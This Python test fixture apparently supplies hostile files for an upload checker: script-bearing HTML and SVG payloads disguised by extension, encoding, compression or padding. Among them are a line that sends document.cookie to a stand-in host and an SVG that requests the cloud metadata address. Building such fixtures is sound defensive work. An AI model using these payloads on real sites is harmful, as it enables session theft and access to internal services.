"""What a browser would run if it were shown in place: pages, drawings and scripts, whatever they are named."""

import gzip

from tests.hostile import Made

SCRIPT = "<script>alert(document.cookie)</script>"
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def _svg(inside: str, head: str = "", more: str = "") -> bytes:
    return f"{head}<svg {_SVG} width='90' height='90'{more}>{inside}</svg>".encode()


_FOREIGN = f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</body></foreignObject>"
SHOWN_IN_PLACE: dict[str, Made] = {
    "page-named-jpg": f"<!doctype html><html>{SCRIPT}</html>".encode,
    "page-after-spaces": lambda: b" \n\t" * 300 + SCRIPT.encode(),
    "page-in-utf-16": lambda: f"<html>{SCRIPT}</html>".encode("utf-16"),
    "page-in-utf-7": lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "page-after-a-mark": lambda: b"\xef\xbb\xbf" + SCRIPT.encode(),
    "page-of-xml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode,
    "page-of-mail": lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT.encode(),
    "page-that-runs": lambda: b"<hta:application id=x /><script language=vbscript>x</script>",
    "style-of-xml": lambda: b'<?xml-stylesheet type="text/xsl" href="#x"?><x:stylesheet/>',
    "script": lambda: b"fetch('//x/'+document.cookie)",
    "svg-script": lambda: _svg(SCRIPT),
    "svg-onload": lambda: _svg("", more=" onload='alert(1)'"),
    "svg-foreign": lambda: _svg(_FOREIGN),
    "svg-from-elsewhere": lambda: _svg(
        "<image xlink:href='http://169.254.169.254/latest' width='9' height='9'/>"
    ),
    "svg-animated": lambda: _svg("<a><animate attributeName='href' values='javascript:alert(1)'/></a>"),
    "svg-after-a-comment": lambda: _svg(SCRIPT, head="<!-- a photograph -->"),
    "svg-packed": lambda: gzip.compress(_svg(SCRIPT)),
    "svg-in-utf-16": lambda: _svg(SCRIPT).decode().encode("utf-16-be"),
}
